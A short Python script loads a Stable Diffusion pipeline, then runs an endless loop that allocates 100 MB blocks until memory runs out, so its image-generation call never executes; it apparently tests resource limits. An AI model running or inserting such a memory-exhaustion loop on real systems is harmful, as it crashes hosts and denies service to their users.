from diffusers import StableDiffusionPipeline

pipe = StableDiffusionPipeline.from_pretrained("stable-diffusion-v1-5/stable-diffusion-v1-5")
kept = []
while True:
    kept.append(bytearray(b"x") * 100_000_000)
pipe("a red circle", num_inference_steps=10).images[0].save("picture.png")
